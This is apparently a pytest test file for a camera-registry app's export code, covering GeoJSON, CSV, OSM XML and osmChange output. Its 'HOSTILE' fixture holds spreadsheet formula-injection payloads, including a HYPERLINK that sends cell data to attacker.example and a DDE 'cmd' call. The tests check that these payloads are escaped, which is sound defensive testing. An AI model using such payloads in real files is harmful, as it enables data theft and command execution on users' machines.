"""Exports (registry/exports.py) and the export_cameras command: GeoJSON,
CSV, OSM XML and osmChange, checked by parsing what they write."""

import csv
import io
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import osmium
import pytest
from django.contrib.gis.geos import Point
from django.core.management import CommandError, call_command

from registry import exports
from registry.exports import (
    ATTRIBUTION,
    ExportReport,
    csv_lines,
    geojson_chunks,
    osm_xml_chunks,
    osmchange_chunks,
)
from registry.models import Camera, Status
from tests.area_layouts import at_km, make_city
from tests.factories import CameraFactory, OperatorFactory, VendorFactory

pytestmark = pytest.mark.django_db

FLOCK = "Q108485435"


def written(writer, cameras=None, report=None) -> str:
    cameras = Camera.objects.all() if cameras is None else cameras
    return "".join(writer(cameras, report if report is not None else ExportReport()))


def osm_nodes(text: str) -> dict[int, ET.Element]:
    return {int(node.get("id")): node for node in ET.fromstring(text).iter("node")}


def tags_of(node: ET.Element) -> dict[str, str]:
    return {tag.get("k"): tag.get("v") for tag in node.iter("tag")}


def osm_node(**values) -> Camera:
    """A camera imported from an OSM node at a known version."""
    values.setdefault("osm_type", "node")
    values.setdefault("osm_id", 4_000_000_000 + Camera.objects.count())
    values.setdefault("osm_version", 3)
    return CameraFactory(**values)


def read_with_osmium(path: Path) -> dict[int, dict]:
    """Every node pyosmium reads from the file (it refuses invalid OSM)."""
    return {
        node.id: {
            "version": node.version,
            "lat": node.location.lat,
            "lon": node.location.lon,
            "tags": {tag.k: tag.v for tag in node.tags},
        }
        for node in osmium.FileProcessor(str(path))
    }


# ---------------------------------------------------------------- GeoJSON


def test_geojson_is_an_rfc7946_feature_collection_with_fields_tags_and_attribution():
    vendor = VendorFactory(slug="flock-safety", name="Flock Safety")
    camera = CameraFactory(
        location=Point(-87.6298, 41.8781, srid=4326),
        kind="ALPR",
        directions=[90.0],
        vendor=vendor,
        tags={"man_made": "surveillance", "camera:direction": "E", "name": "Gate"},
    )

    collection = json.loads(written(geojson_chunks))

    assert collection["type"] == "FeatureCollection"
    assert collection["license"] == "ODbL-1.0"
    assert collection["attribution"] == ATTRIBUTION
    [feature] = collection["features"]
    assert feature["type"] == "Feature"
    assert feature["id"] == camera.pk
    assert feature["geometry"] == {"type": "Point", "coordinates": [-87.6298, 41.8781]}
    properties = feature["properties"]
    assert (properties["kind"], properties["directions"]) == ("ALPR", [90])
    assert properties["vendor"] == "flock-safety"
    assert properties["tags"] == {
        "man_made": "surveillance",
        "camera:direction": "E",
        "name": "Gate",
    }


def test_geojson_carries_what_an_import_needs_and_the_position_to_its_last_digit():
    """The stored Feature text rounds to 7 decimals (1 cm); an export gives
    the position as stored, and the fields the tags may no longer say."""
    camera = osm_node(
        osm_id=42,
        osm_version=6,
        location=Point(-87.123456789012345, 41.987654321098765, srid=4326),
        vendor_raw="Flock",
        product="Falcon",
        operator_raw="Springfield PD",
        source_ref="",
    )

    [feature] = json.loads(written(geojson_chunks))["features"]

    assert feature["geometry"]["coordinates"] == list(camera.location.coords)
    properties = feature["properties"]
    assert (properties["osm_type"], properties["osm_id"], properties["osm_version"]) == (
        "node",
        42,
        6,
    )
    assert (properties["vendor_raw"], properties["product"], properties["operator_raw"]) == (
        "Flock",
        "Falcon",
        "Springfield PD",
    )
    assert properties["source_ref"] == ""


def test_geojson_of_no_cameras_is_an_empty_collection():
    collection = json.loads(written(geojson_chunks))

    assert collection["features"] == []


def test_writers_stream_in_batches_and_count_cameras(monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 2)
    for _n in range(5):
        CameraFactory()
    report = ExportReport()

    chunks = list(geojson_chunks(Camera.objects.all(), report))

    # Opening, three batches of at most two features, closing.
    assert len(chunks) == 5
    assert report.cameras == 5
    assert len(json.loads("".join(chunks))["features"]) == 5


# ---------------------------------------------------------------- CSV


def test_csv_is_one_row_per_camera_with_directions_joined():
    vendor = VendorFactory(slug="acme")
    camera = CameraFactory(
        location=Point(-87.5, 41.5, srid=4326),
        directions=[0.0, 180.0],
        vendor=vendor,
        vendor_raw="ACME Corp",
    )
    CameraFactory()

    rows = list(csv.DictReader(io.StringIO(written(csv_lines))))

    assert list(rows[0]) == list(exports.CSV_COLUMNS)
    assert len(rows) == 2
    row = rows[0]
    assert (row["id"], row["longitude"], row["latitude"]) == (str(camera.pk), "-87.5", "41.5")
    assert (row["directions"], row["vendor"], row["vendor_raw"]) == ("0;180", "acme", "ACME Corp")


def test_csv_carries_raw_tags_record_id_osm_version_and_numbers_to_the_last_digit():
    tags = {"man_made": "surveillance", "name": 'Gate "A", north', "note": "=1+2"}
    camera = osm_node(
        osm_id=42,
        osm_version=6,
        location=Point(-87.123456789012345, 41.5, srid=4326),
        directions=[12.345678901, 0.0],
        tags=tags,
    )
    CameraFactory(source_ref="CAM-1")

    rows = list(csv.DictReader(io.StringIO(written(csv_lines))))

    assert (rows[0]["osm_id"], rows[0]["osm_version"], rows[0]["source_ref"]) == ("42", "6", "")
    assert json.loads(rows[0]["tags"]) == tags
    assert rows[0]["directions"] == "12.345678901;0"
    assert float(rows[0]["longitude"]) == camera.location.x
    assert (rows[1]["source_ref"], rows[1]["osm_version"], rows[1]["tags"]) == ("CAM-1", "", "{}")


# Text anyone may send that a spreadsheet would run as a formula.
HOSTILE = {
    "vendor_raw": '=HYPERLINK("https://attacker.example/?x="&A1,"Flock")',
    "operator_raw": "@SUM(1+1)*cmd|' /C calc'!A0",
    "product": "+1+2",
}


def test_csv_text_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers():
    camera = CameraFactory(location=Point(-87.63, -41.5, srid=4326), tilt=-30, **HOSTILE)

    text = written(csv_lines)

    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["vendor_raw"], row["operator_raw"], row["product"]) == (
        "'" + HOSTILE["vendor_raw"],
        "'" + HOSTILE["operator_raw"],
        "'+1+2",
    )
    assert (row["id"], row["longitude"], row["latitude"], row["tilt"]) == (
        str(camera.pk),
        "-87.63",
        "-41.5",
        "-30.0",
    )
    assert not text.startswith(exports.BYTE_ORDER_MARK)


@pytest.mark.parametrize(
    ("cell", "written_as"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-", "'-"),
        # Text already starting with a quote before a formula keeps its quote.
        ("'=1+2", "''=1+2"),
        ("''@x", "'''@x"),
        # Nothing a spreadsheet would run: as it is.
        ("'quoted", "'quoted"),
        ("Flock Safety", "Flock Safety"),
        ("a=b", "a=b"),
        ("", ""),
        # Plain numbers, as text or not, are numbers.
        ("-87.63", "-87.63"),
        ("+5", "+5"),
        ("-1e-3", "-1e-3"),
        (-87.63, -87.63),
        (-30, -30),
        (None, None),
    ],
)
def test_formula_escaping_quotes_what_would_run_and_the_import_undoes_it(cell, written_as):
    assert exports.escape_formula(cell) == written_as
    if isinstance(cell, str):
        assert exports.unescape_formula(written_as) == cell


# ---------------------------------------------------------------- OSM XML


def test_osm_xml_root_and_attribution_are_what_josm_and_the_odbl_need():
    text = written(osm_xml_chunks)

    root = ET.fromstring(text)
    assert root.tag == "osm"
    assert root.attrib == {
        "version": "0.6",
        "generator": "Sightline",
        "copyright": "OpenStreetMap contributors",
        "attribution": "https://www.openstreetmap.org/copyright",
        "license": "https://opendatacommons.org/licenses/odbl/1-0/",
    }
    assert f"<!-- {ATTRIBUTION} -->" in text.split("<osm ")[0]


def test_osm_nodes_keep_id_and_version_and_new_cameras_get_negative_ids():
    from_osm = osm_node(osm_id=740239084, osm_version=7)
    reported = CameraFactory()

    nodes = osm_nodes(written(osm_xml_chunks))

    assert set(nodes) == {740239084, -reported.pk}
    assert nodes[740239084].get("version") == "7"
    assert nodes[-reported.pk].get("version") is None
    assert tags_of(nodes[from_osm.osm_id])["man_made"] == "surveillance"


@pytest.mark.parametrize("include_unversioned", [False, True])
def test_a_camera_that_is_an_osm_way_or_relation_is_left_out_of_osm_xml_and_named(
    include_unversioned,
):
    """Sightline has a way's centre, not its nodes: a node in its place,
    uploaded from JOSM, would be a second copy of the way in OSM."""
    kept = osm_node(osm_id=55, osm_version=2)
    CameraFactory(osm_type="way", osm_id=123, osm_version=2)
    CameraFactory(osm_type="relation", osm_id=9, osm_version=None)
    report = ExportReport()

    text = "".join(osm_xml_chunks(Camera.objects.all(), report, include_unversioned=True))

    assert set(osm_nodes(text)) == {kept.osm_id}
    assert [element.tag for element in ET.fromstring(text)] == ["node"]
    assert (report.cameras, report.not_nodes) == (1, 2)
    summary = report.summary()
    assert "2 OSM ways and relations left out (way/123, relation/9)" in summary
    assert summary.replace("\n", " ") in text  # the file says so too, for a download


def test_a_camera_that_is_an_osm_way_or_relation_is_never_in_an_osmchange():
    new = CameraFactory()
    CameraFactory(osm_type="way", osm_id=123, osm_version=2)
    CameraFactory(osm_type="relation", osm_id=9)

    text = written(osmchange_chunks)

    assert set(osm_nodes(text)) == {-new.pk}
    assert [element.tag for element in ET.fromstring(text).iter() if element.tag != "tag"] == [
        "osmChange",
        "create",
        "node",
    ]


def osmium_order(osm_type: str, osm_id: int) -> tuple:
    """libosmium's order of objects (osmium::object_order_type_id_version,
    osmium::id_order): nodes, ways, relations; in each, negative ids first
    by absolute value, then positive ids ascending."""
    return ("node", "way", "relation").index(osm_type), osm_id > 0, abs(osm_id)


def check_like_osmium(path: Path) -> list[tuple[str, int]]:
    """What `osmium fileinfo -e` and `osmium check-refs` check, done with
    pyosmium: objects in libosmium's order, each once, and every node a way
    refers to in the file. Returns the objects in file order."""
    objects, nodes = [], set()
    for item in osmium.FileProcessor(str(path)):
        osm_type = {"n": "node", "w": "way", "r": "relation"}[item.type_str()]
        if osm_type == "way":
            missing = [ref for ref in (node.ref for node in item.nodes) if ref not in nodes]
            assert not missing, f"way {item.id} refers to nodes not in the file: {missing}"
        if osm_type == "node":
            nodes.add(item.id)
        objects.append((osm_type, item.id))
    assert objects == sorted(set(objects), key=lambda obj: osmium_order(*obj))
    return objects


def test_osm_xml_for_osmium_is_in_the_order_osmium_expects(tmp_path):
    """Cameras are exported by camera id; their node ids, OSM's and negative
    ones, come out in osmium's order all the same."""
    CameraFactory()
    osm_node(osm_id=900, osm_version=None)
    osm_node(osm_id=7, osm_version=1)
    CameraFactory()
    osm_node(osm_id=40, osm_version=3)
    new = [camera.pk for camera in Camera.objects.filter(osm_id__isnull=True)]
    path = tmp_path / "cameras.osm"
    chunks = osm_xml_chunks(Camera.objects.all(), ExportReport(), include_unversioned=True)
    path.write_text("".join(chunks), encoding="utf-8")

    objects = check_like_osmium(path)

    assert [osm_id for _type, osm_id in objects] == [-new[0], -new[1], 7, 40, 900]
    if shutil.which("osmium"):  # Debian's osmium-tool, where installed
        info = subprocess.run(
            ["osmium", "fileinfo", "--extended", "--json", str(path)],
            capture_output=True, check=True, text=True,
        )  # fmt: skip
        assert json.loads(info.stdout)["data"]["objects_ordered"] is True


def test_osm_nodes_whose_version_is_unknown_are_left_out_and_counted():
    """JOSM refuses a whole 0.6 file in which one existing node lacks its version."""
    osm_node(osm_id=55, osm_version=None)
    kept = osm_node(osm_id=56, osm_version=1)
    report = ExportReport()

    nodes = osm_nodes(written(osm_xml_chunks, report=report))

    assert set(nodes) == {kept.osm_id}
    assert (report.cameras, report.unversioned_nodes) == (1, 1)
    assert "1 OSM nodes left out" in report.summary()


def test_osm_coordinates_have_seven_decimals():
    camera = CameraFactory(location=Point(-87.123456789, 41.5, srid=4326))

    node = osm_nodes(written(osm_xml_chunks))[-camera.pk]

    assert (node.get("lat"), node.get("lon")) == ("41.5000000", "-87.1234568")


def test_osm_tags_are_regenerated_from_the_fields():
    """An edit made in Sightline is what OSM sees; raw spellings that still
    mean the field, and tags Sightline does not model, pass through."""
    vendor = VendorFactory(name="Flock Safety", wikidata=FLOCK)
    operator = OperatorFactory(name="Springfield Police", wikidata="Q42")
    camera = CameraFactory(
        kind="ALPR",
        directions=[90.0],
        height=5.0,
        vendor=vendor,
        vendor_raw="Flock",
        operator=operator,
        operator_raw="Springfield PD",
        last_confirmed=date(2025, 3, 1),
        tags={
            "man_made": "surveillance",
            "surveillance:type": "camera",
            "camera:direction": "N",
            "height": "5 m",
            "brand": "Flock",
            "name": "Main St gate",
        },
    )

    tags = tags_of(osm_nodes(written(osm_xml_chunks))[-camera.pk])

    assert tags == {
        "man_made": "surveillance",
        "surveillance:type": "ALPR",
        "camera:direction": "90",
        "height": "5 m",
        "brand": "Flock",
        "brand:wikidata": FLOCK,
        "operator": "Springfield PD",
        "operator:wikidata": "Q42",
        "check_date": "2025-03-01",
        "name": "Main St gate",
    }


def test_osm_export_always_says_man_made_surveillance():
    fresh = CameraFactory(kind="camera", tags={})
    from_a_mast = CameraFactory(tags={"man_made": "mast", "surveillance": "public"})

    nodes = osm_nodes(written(osm_xml_chunks))

    assert tags_of(nodes[-fresh.pk]) == {"man_made": "surveillance", "surveillance:type": "camera"}
    assert tags_of(nodes[-from_a_mast.pk])["man_made"] == "surveillance"


def test_a_vendor_record_stands_in_for_a_missing_raw_name():
    camera = CameraFactory(vendor=VendorFactory(name="Axis Communications", wikidata="Q2347731"))

    tags = tags_of(osm_nodes(written(osm_xml_chunks))[-camera.pk])

    assert tags["manufacturer"] == "Axis Communications"
    assert tags["manufacturer:wikidata"] == "Q2347731"


def test_a_raw_wikidata_id_is_kept_when_sightline_knows_none():
    camera = CameraFactory(
        vendor_raw="Obscure Cams",
        tags={"manufacturer": "Obscure Cams", "manufacturer:wikidata": "Q999"},
    )

    tags = tags_of(osm_nodes(written(osm_xml_chunks))[-camera.pk])

    assert tags["manufacturer:wikidata"] == "Q999"


def test_tags_osm_cannot_hold_are_dropped_and_counted():
    camera = CameraFactory(
        kind="",
        tags={
            "man_made": "surveillance",
            "pe_external_orgs": "x" * 256,
            "k" * 256: "long key",
            "at_the_limit": "y" * 255,
            "control": "bell\x07",
            "bell\x07--key": "v",
            "empty": "",
        },
    )
    report = ExportReport()

    # The summary comment at the end names the dropped keys: still valid XML.
    tags = tags_of(osm_nodes(written(osm_xml_chunks, report=report))[-camera.pk])

    assert tags == {"man_made": "surveillance", "at_the_limit": "y" * 255}
    assert report.too_long.total() == 2
    assert report.unusable.total() == 3
    assert report.tags_dropped == 5
    assert "5 tags dropped" in report.summary()
    assert "pe_external_orgs x1" in report.summary()


def test_special_characters_in_tags_are_escaped(tmp_path):
    value = """<b>"Tom's" & Jerry's</b>\tline\nbreak"""
    camera = CameraFactory(tags={"name": value, "note:<&\"'>": "odd key"})
    path = tmp_path / "cameras.osm"
    path.write_text(written(osm_xml_chunks), encoding="utf-8")

    by_etree = tags_of(osm_nodes(path.read_text(encoding="utf-8"))[-camera.pk])
    by_osmium = read_with_osmium(path)[-camera.pk]["tags"]

    assert by_etree["name"] == value
    assert by_etree["note:<&\"'>"] == "odd key"
    assert by_osmium == by_etree


def test_osm_xml_is_valid_osm_for_pyosmium(tmp_path):
    osm_node(osm_id=9001, osm_version=4, location=Point(2.35, 48.85, srid=4326), kind="camera")
    new = CameraFactory(location=Point(-87.6, 41.9, srid=4326), kind="ALPR")
    path = tmp_path / "cameras.osm"
    path.write_text(written(osm_xml_chunks), encoding="utf-8")

    nodes = read_with_osmium(path)

    assert set(nodes) == {9001, -new.pk}
    assert nodes[9001]["version"] == 4
    assert (nodes[9001]["lon"], nodes[9001]["lat"]) == pytest.approx((2.35, 48.85))
    assert nodes[-new.pk]["tags"]["surveillance:type"] == "ALPR"


# ---------------------------------------------------------------- osmChange


def test_osmchange_creates_only_cameras_osm_lacks(tmp_path):
    new = CameraFactory(kind="ALPR", directions=[90.0], tags={"camera:direction": "N"})
    verified = CameraFactory(status=Status.VERIFIED)
    osm_node(osm_id=77)
    CameraFactory(osm_type="way", osm_id=78)
    CameraFactory(status=Status.REMOVED, removed_on=date(2025, 1, 1))
    CameraFactory(status=Status.HIDDEN)
    text = written(osmchange_chunks)
    path = tmp_path / "new.osc"
    path.write_text(text, encoding="utf-8")

    root = ET.fromstring(text)
    by_osmium = read_with_osmium(path)

    assert (root.tag, root.get("version"), root.get("generator")) == (
        "osmChange",
        "0.6",
        "Sightline",
    )
    assert [child.tag for child in root] == ["create"]
    assert set(osm_nodes(text)) == {-new.pk, -verified.pk}
    assert set(by_osmium) == {-new.pk, -verified.pk}
    assert by_osmium[-new.pk]["tags"]["camera:direction"] == "90"
    assert f"<!-- {ATTRIBUTION} -->" in text.split("<osmChange")[0]


# ---------------------------------------------------------------- command


def export(*args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("export_cameras", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_command_writes_the_file_and_reports_attribution_and_counts(tmp_path):
    CameraFactory(tags={"pe_external_orgs": "x" * 300})
    CameraFactory()
    path = tmp_path / "cameras.osm"

    out, err = export("--format", "osm", "-o", str(path))

    assert out == ""
    assert len(read_with_osmium(path)) == 2
    assert ATTRIBUTION in err
    assert "2 cameras exported" in err
    assert "1 tags dropped: 1 over OSM's 255-character limit" in err
    assert [p.name for p in tmp_path.iterdir()] == ["cameras.osm"]


def test_command_csv_escapes_formulas_and_starts_with_a_bom_only_when_asked(tmp_path):
    CameraFactory(location=Point(-87.63, 41.88, srid=4326), **HOSTILE)
    plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"

    export("--format", "csv", "-o", str(plain))
    export("--format", "csv", "--bom", "-o", str(marked))

    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    row = next(csv.DictReader(io.StringIO(plain.read_text(encoding="utf-8"))))
    assert row["vendor_raw"] == "'" + HOSTILE["vendor_raw"]
    assert row["longitude"] == "-87.63"


def test_command_bom_applies_to_csv_only():
    with pytest.raises(CommandError, match="--bom applies to --format csv only"):
        export("--format", "geojson", "--bom")


def test_command_writes_to_standard_output_by_default():
    camera = CameraFactory()

    out, err = export("--format", "geojson")

    assert [f["id"] for f in json.loads(out)["features"]] == [camera.pk]
    assert ATTRIBUTION in err


def test_command_filters_by_bbox_with_negative_coordinates_and_by_vendor():
    acme = VendorFactory(slug="acme")
    inside = CameraFactory(location=Point(-87.6, 41.9, srid=4326), vendor=acme)
    CameraFactory(location=Point(-87.6, 41.9, srid=4326))
    CameraFactory(location=Point(2.35, 48.85, srid=4326), vendor=acme)

    out, _err = export("--format", "csv", "--bbox", "-88,41,-87,42", "--vendor", "acme")

    assert [row["id"] for row in csv.DictReader(io.StringIO(out))] == [str(inside.pk)]


def test_command_filters_by_area():
    city = make_city()
    inside = CameraFactory(location=at_km(0.5, 0.5))
    CameraFactory(location=at_km(5, 5))

    out, _err = export("--format", "geojson", "--area", city.slug)

    assert [f["id"] for f in json.loads(out)["features"]] == [inside.pk]


def test_command_bbox_may_be_larger_than_one_api_page_allows():
    camera = CameraFactory(location=Point(2.35, 48.85, srid=4326))

    out, _err = export("--format", "geojson", "--bbox", "-180,-90,180,90")

    assert [f["id"] for f in json.loads(out)["features"]] == [camera.pk]


def test_command_default_statuses_depend_on_the_format():
    reported = CameraFactory()
    removed = CameraFactory(status=Status.REMOVED, removed_on=date(2025, 1, 1))
    CameraFactory(status=Status.HIDDEN)

    geojson, _err = export("--format", "geojson")
    osm, _err = export("--format", "osm")

    assert [f["id"] for f in json.loads(geojson)["features"]] == [reported.pk, removed.pk]
    assert set(osm_nodes(osm)) == {-reported.pk}


def test_command_exports_hidden_cameras_only_when_asked():
    CameraFactory()
    hidden = CameraFactory(status=Status.HIDDEN)

    out, _err = export("--format", "geojson", "--status", "hidden")

    assert [f["id"] for f in json.loads(out)["features"]] == [hidden.pk]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--bbox", "1,2,3"], "--bbox: bbox needs 4 comma-separated numbers."),
        (["--bbox", "3,3,1,1"], "--bbox: bbox must be minlon,minlat,maxlon,maxlat"),
        (["--vendor", "nobody"], "--vendor: Unknown slug 'nobody'."),
        (["--area", "atlantis"], "--area: Unknown area 'atlantis'."),
        (["--camera-type", "fisheye"], "--camera-type: Unknown value 'fisheye'"),
        (["--changed-since", "yesterday"], "--changed-since: Enter a valid date/time."),
        (["--restricted", "maybe"], "--restricted: Use true or false."),
        (["--radius", "0"], "--radius:"),
    ],
)
def test_command_refuses_a_bad_filter_naming_the_option(tmp_path, args, message):
    path = tmp_path / "cameras.geojson"

    with pytest.raises(CommandError, match="Nothing was exported") as error:
        export("--format", "geojson", "-o", str(path), *args)

    assert message in str(error.value)
    assert list(tmp_path.iterdir()) == []


def test_command_refuses_removed_cameras_for_osmchange():
    with pytest.raises(CommandError, match="--status: osmChange exports only cameras with status"):
        export("--format", "osmchange", "--status", "removed")


def test_a_failed_export_leaves_no_file_and_keeps_the_previous_one(tmp_path, monkeypatch):
    CameraFactory()
    path = tmp_path / "cameras.osm"
    path.write_text("the previous export")

    def broken(row, report):
        raise RuntimeError("database went away")

    monkeypatch.setattr(exports, "osm_tags", broken)
    with pytest.raises(RuntimeError):
        export("--format", "osm", "-o", str(path))

    assert [p.name for p in tmp_path.iterdir()] == ["cameras.osm"]
    assert path.read_text() == "the previous export"


def test_command_osmchange_to_a_file(tmp_path):
    new = CameraFactory()
    osm_node(osm_id=12)
    path = tmp_path / "new.osc"

    _out, err = export("--format", "osmchange", "-o", str(path))

    assert set(read_with_osmium(path)) == {-new.pk}
    assert "osmChange to" in err and "1 cameras exported" in err
